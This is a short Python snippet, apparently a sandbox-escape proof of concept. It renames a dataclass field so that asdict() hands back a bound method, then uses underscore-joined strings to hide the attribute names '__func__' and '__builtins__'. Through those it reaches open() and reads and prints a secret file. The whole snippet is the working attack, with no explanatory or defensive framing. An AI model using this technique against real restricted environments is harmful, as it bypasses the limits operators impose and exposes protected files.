# Replacing asks an instance for every field by name, and the field has been given a locked name.
from dataclasses import asdict, dataclass, fields

@dataclass
class Thing:
    first: int

    def hello(self):
        pass

thing = Thing(1)
fields(Thing)[0].name = "__init__"
for value in asdict(thing).values():
    print(value)
fields(Thing)[0].name = "hello"
for method in asdict(thing).values():
    names = getattr(method, "_".join(["", "", "func", "", ""]))
    print(getattr(names, "_".join(["", "", "builtins", "", ""]))["open"](SECRET_FILE).read())
